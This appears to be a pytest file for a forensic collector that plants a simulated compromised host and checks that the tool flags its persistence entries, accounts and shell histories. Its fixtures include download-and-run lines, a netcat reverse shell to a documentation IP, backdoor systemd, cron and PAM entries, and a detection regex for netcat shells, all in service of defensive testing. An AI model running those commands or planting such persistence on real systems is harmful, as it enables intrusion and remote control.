"""The persistence and accounts collectors against a host planted by the test: the real
``preserve`` command runs in a private mount namespace where /etc, /home, /root,
/var/spool, /var/log and the PAM module directory are the test's own trees (this
machine's are never read or touched). Each planted persistence entry, account and history
line must be an artifact and a finding; the secrets must be hashed and never stored; an
examiner's rule file must add its finding."""

from __future__ import annotations

import hashlib
import json
import os
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import PRESERVE_CODE, ROOT, journal_records, preserve, requires_root, verify

KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET-HOST-KEY\n-----END OPENSSH PRIVATE KEY-----\n"
SHADOW = b"root:$6$saltsalt$SECRETHASHVALUE:19000:0:99999:7:::\n"
TLS_KEY = b"-----BEGIN PRIVATE KEY-----\nSECRET-TLS-MATERIAL\n-----END PRIVATE KEY-----\n"
LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/bin/bash
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
postgres:x:120:120:PostgreSQL:/var/lib/postgresql:/bin/bash
toor:x:0:0::/root:/bin/sh
alice:x:1000:1000:Alice:/home/alice:/bin/bash
"""
EXAMINER_RULES = """
[[rule]]
id = "examiner-netcat-shell"
fact = "history-line"
severity = "HIGH"
why = "A netcat that hands out a shell is a reverse shell."
message = "{user} ran a netcat shell: {line}"
regex = { line = 'nc\\s.*-e\\s*/bin/(ba)?sh' }
record = ["user", "line"]
"""


def _write(path: Path, data: str | bytes, mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)
    return path


def _plant(host: Path, outside: Path) -> None:
    etc = host / "etc"
    _write(etc / "passwd", PASSWD)
    _write(etc / "group", "root:x:0:\n")
    _write(etc / "shadow", SHADOW, 0o640)
    _write(etc / "ssh/ssh_host_ed25519_key", KEY, 0o600)
    _write(etc / "ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAAC3Nz host\n")
    _write(etc / "ssl/certs/bundle.pem", TLS_KEY)
    _write(
        etc / "ssl/certs/ca.pem", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
    )
    _write(
        etc / "ssh/sshd_config",
        f"Include {outside}/sshd-extra.conf\nAuthorizedKeysFile .ssh/authorized_keys "
        f"{outside}/keys/%u /etc/ssh/keys/%u\n",
    )
    _write(etc / "ssh/keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIETC in-etc\n")
    _write(outside / "sshd-extra.conf", "PermitRootLogin yes\n")
    _write(outside / "keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOUT attacker@outside\n")
    _write(etc / "crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    _write(etc / "cron.d/updater", "* * * * * root /tmp/.x/run.sh >/dev/null 2>&1\n")
    _write(etc / "systemd/system/backdoor.service", "[Service]\nExecStart=/dev/shm/.b/agent -d\n")
    _write(
        etc / "systemd/system/backdoor.timer", "[Timer]\nOnBootSec=5min\nUnit=backdoor.service\n"
    )
    wants = etc / "systemd/system/timers.target.wants"
    wants.mkdir(parents=True)
    (wants / "backdoor.timer").symlink_to("/etc/systemd/system/backdoor.timer")
    # The namespace's own programs load it too: a library every one of them has loaded
    # anyway keeps it harmless.
    _write(etc / "ld.so.preload", f"{LIBC}\n")
    _write(etc / "udev/rules.d/99-usb.rules", 'ACTION=="add", RUN+="/var/tmp/.u/hook %k"\n')
    _write(etc / "rc.local", "#!/bin/sh\n/dev/shm/.r &\nexit 0\n", 0o755)
    _write(etc / "pam.d/sshd", "auth sufficient pam_backdoor.so\n@include common-auth\n")
    _write(etc / "profile", "if [ -d /etc/profile.d ]; then :; fi\n")
    _write(host / "security/pam_backdoor.so", b"\x7fELF fake module")
    root = host / "root"
    _write(root / ".profile", "PATH=$PATH:/root/bin\nunset HISTFILE\n")
    _write(root / ".zsh_history", ": 1764000000:0;echo Y3VybCB4IHwgc2gK | base64 -d | sh\n")
    alice = host / "home/alice"
    _write(
        alice / ".bashrc",
        "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n(/dev/shm/.cache/upd >/dev/null 2>&1 &)\n",
    )
    _write(alice / ".cache/.h", "ls\ncurl -s http://203.0.113.9/a.sh | sh\n")
    _write(
        alice / ".bash_history",
        "#1764000000\nwget -O- http://x.example | bash\nnc 203.0.113.5 4444 -e /bin/sh\nls -la\n",
    )
    _write(
        alice / ".ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGOOD alice@laptop\n"
        'command="/tmp/.k/sh",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAD evil\n',
    )
    _write(host / "spool/cron/crontabs/alice", "@reboot /home/alice/.local/bin/sync\n")
    lastlog = bytearray(1001 * 292)
    struct.pack_into("<i32s256s", lastlog, 1000 * 292, 1764000000, b"pts/3", b"198.51.100.7")
    _write(host / "log/lastlog", bytes(lastlog))
    faillog = bytearray(32)
    struct.pack_into("<hh12sqq", faillog, 0, 3, 0, b"ssh:notty", 1764000100, 0)
    _write(host / "log/faillog", bytes(faillog))


def _run_in_namespace(host: Path, out: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The real CLI, with the planted trees mounted over the host's own in a private
    mount namespace that ends with the command."""
    security = "/usr/lib/x86_64-linux-gnu/security"
    # The interpreter may live under /root (pyenv): kept reachable inside the planted home.
    python = Path(os.path.realpath(sys.executable))
    keep = ""
    if python.is_relative_to("/root"):
        top = Path("/root", python.relative_to("/root").parts[0])
        (host / "root" / top.name).mkdir(exist_ok=True)
        keep = f"mount --bind {top} {host}/root/{top.name}"
    script = f"""set -e
mount --bind {host}/etc /etc
mount --bind {host}/home /home
{keep}
mount --rbind {host}/root /root
mount -t tmpfs tmpfs /var/spool && cp -a {host}/spool/. /var/spool/
mount -t tmpfs tmpfs /var/log && cp -a {host}/log/. /var/log/
mount --bind {host}/security {security}
exec "$@"
"""
    argv = [sys.executable, "-c", PRESERVE_CODE, "--json", "-o", str(out), *args]
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C.UTF-8"}
    return subprocess.run(
        ["unshare", "-m", "--propagation", "private", "sh", "-c", script, "sh", *argv],
        capture_output=True, timeout=300, cwd=ROOT, env=env,
    )  # fmt: skip


@pytest.fixture(scope="module")
def collected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict]]:
    if os.geteuid() != 0:
        pytest.skip("needs root for a private mount namespace")
    if not os.path.exists(LIBC) or not os.path.isdir("/usr/lib/x86_64-linux-gnu/security"):
        pytest.skip("needs the x86-64 Debian library layout")
    base = tmp_path_factory.mktemp("persist")
    host, outside = base / "host", base / "outside"
    (host / "home").mkdir(parents=True)
    _plant(host, outside)
    rules = _write(base / "mine.toml", EXAMINER_RULES)
    result = _run_in_namespace(
        host, base / "out", "--only", "persistence,accounts", "--rules", str(rules)
    )
    assert result.returncode in (0, 1), result.stderr.decode()
    evidence = Path(json.loads(result.stdout)["evidence_dir"])
    return evidence, journal_records(evidence)


def _findings(records: list[dict]) -> dict[tuple[str, str], dict]:
    return {
        (r["rule"], r["source"]["path"] + (f":{r['line_no']}" if "line_no" in r else "")): r
        for r in records
        if r.get("event") == "finding"
    }


@requires_root
def test_every_planted_entry_is_a_finding(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    found = _findings(records)
    out = Path(str(evidence)).parent.parent / "outside"
    expected = {
        ("persistence-writable-target", "/etc/cron.d/updater"),
        ("persistence-writable-target", "/etc/systemd/system/backdoor.service"),
        ("persistence-writable-target", "/etc/udev/rules.d/99-usb.rules"),
        ("persistence-writable-target", "/etc/rc.local"),
        ("persistence-writable-target", "/home/alice/.ssh/authorized_keys:2"),
        ("persistence-writable-target", f"{out}/keys/alice:1"),
        ("persistence-changed-in-window", "/etc/systemd/system/backdoor.timer"),
        ("persistence-changed-in-window", "/etc/crontab"),
        ("persistence-changed-in-window", "/etc/ssh/keys/alice:1"),  # AuthorizedKeysFile
        ("persistence-changed-in-window", "/home/alice/.ssh/authorized_keys:1"),
        ("persistence-changed-in-window", "/var/spool/cron/crontabs/alice"),
        ("persistence-writable-target", "/home/alice/.bashrc"),
        ("ld-preload-present", "/etc/ld.so.preload"),
        ("pam-module-unpackaged", "/etc/pam.d/sshd"),
        ("history-disabled", "/root/.profile:2"),
        ("uid0-account", "/etc/passwd:6"),
        ("system-account-login-shell", "/etc/passwd:3"),
        ("history-download-and-run", "/home/alice/.bash_history:2"),
        ("history-download-and-run", "/home/alice/.cache/.h:2"),
        ("history-download-and-run", "/root/.zsh_history:1"),
        ("examiner-netcat-shell", "/home/alice/.bash_history:3"),
    }
    assert expected <= set(found), sorted(expected - set(found))
    # Not flagged: root, the nologin accounts, postgres (its package gives it a shell),
    # alice's harmless history lines, the planted but harmless /etc/profile.
    assert not [k for k in found if k[1] in ("/etc/passwd:1", "/etc/passwd:2", "/etc/passwd:4")]
    assert ("system-account-login-shell", "/etc/passwd:5") not in found
    assert not [k for k in found if k[1] in ("/home/alice/.bash_history:4",)]
    assert ("persistence-writable-target", "/etc/profile") not in found
    for finding in found.values():  # each is linked to its stored evidence and says why
        assert finding["why"] and finding["severity"] in ("HIGH", "MEDIUM", "LOW")
        assert (evidence / finding["artifact"]).is_file(), finding
    cron = found[("persistence-writable-target", "/etc/cron.d/updater")]
    assert cron["severity"] == "HIGH" and "/tmp/.x/run.sh" in cron["targets"]
    assert (evidence / cron["artifact"]).read_bytes().startswith(b"* * * * * root /tmp/.x")
    history = found[("history-download-and-run", "/home/alice/.cache/.h:2")]
    assert history["artifact"] == "artifacts/accounts/home/alice/.cache/.h"
    assert verify(evidence).returncode == 0


@requires_root
def test_artifacts_units_and_parsed_logs(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    stored = {r["source"]["path"] for r in records if r["type"] == "artifact" and "source" in r}
    for path in (
        "/etc/passwd", "/etc/crontab", "/etc/ssh/sshd_config", "/etc/ssl/certs/ca.pem",
        "/etc/ssh/ssh_host_ed25519_key.pub", "/home/alice/.bashrc", "/root/.profile",
        "/home/alice/.ssh/authorized_keys", "/var/spool/cron/crontabs/alice",
        "/home/alice/.bash_history", "/var/log/lastlog", "/var/log/faillog",
    ):  # fmt: skip
        assert path in stored, path
    outside = evidence.parent.parent / "outside"
    assert f"{outside}/sshd-extra.conf" in stored  # an Include outside /etc
    units = json.loads((evidence / "artifacts/persistence/systemd-units.json").read_bytes())
    timer = next(u for u in units if u["unit"] == "backdoor.timer")
    assert timer["enabled"] is True
    assert (
        timer["enabled_by"][0]["link"] == "/etc/systemd/system/timers.target.wants/backdoor.timer"
    )
    lastlog = json.loads((evidence / "artifacts/accounts/lastlog.json").read_bytes())
    assert lastlog == [{
        "uid": 1000, "user": "alice", "time": "2025-11-24T16:00:00.000000000Z",
        "time_s": 1764000000, "line": "pts/3", "host": "198.51.100.7",
    }]  # fmt: skip
    faillog = json.loads((evidence / "artifacts/accounts/faillog.json").read_bytes())
    assert faillog[0]["user"] == "root" and faillog[0]["failures"] == 3
    histories = json.loads((evidence / "artifacts/accounts/histories.json").read_bytes())
    custom = next(h for h in histories if h["path"] == "/home/alice/.cache/.h")
    assert custom["histfile_from"] == "/home/alice/.bashrc"
    links = (evidence / "artifacts/persistence/links.jsonl").read_text().splitlines()
    assert any(json.loads(line)["path"].endswith("wants/backdoor.timer") for line in links)


@requires_root
def test_secrets_are_hashed_never_stored(collected: tuple[Path, list[dict]]) -> None:
    evidence, records = collected
    secrets = {r["source"]["path"]: r for r in records if r.get("secret")}
    for path, content in (
        ("/etc/shadow", SHADOW),
        ("/etc/ssh/ssh_host_ed25519_key", KEY),
        ("/etc/ssl/certs/bundle.pem", TLS_KEY),
    ):
        assert secrets[path]["type"] == "skipped"
        assert secrets[path]["sha256"] == hashlib.sha256(content).hexdigest()
        assert secrets[path]["stat"]["size"] == len(content)
    for f in evidence.rglob("*"):
        if f.is_file():
            data = f.read_bytes()
            assert b"SECRET" not in data, f  # not in a copy, a listing or the journal


def test_a_broken_rule_file_stops_the_run_before_it_collects(tmp_path: Path) -> None:
    bad = _write(tmp_path / "bad.toml", '[[rule]]\nid = "x"\nfact = "account"\nseverity = "HIGH"\n'
                 'why = "w"\nmessage = "{nosuch}"\n')  # fmt: skip
    result = preserve("-o", tmp_path / "out", "--only", "accounts", "--rules", bad)
    assert result.returncode == 2
    assert b"'nosuch', not a field" in result.stderr and b"Traceback" not in result.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
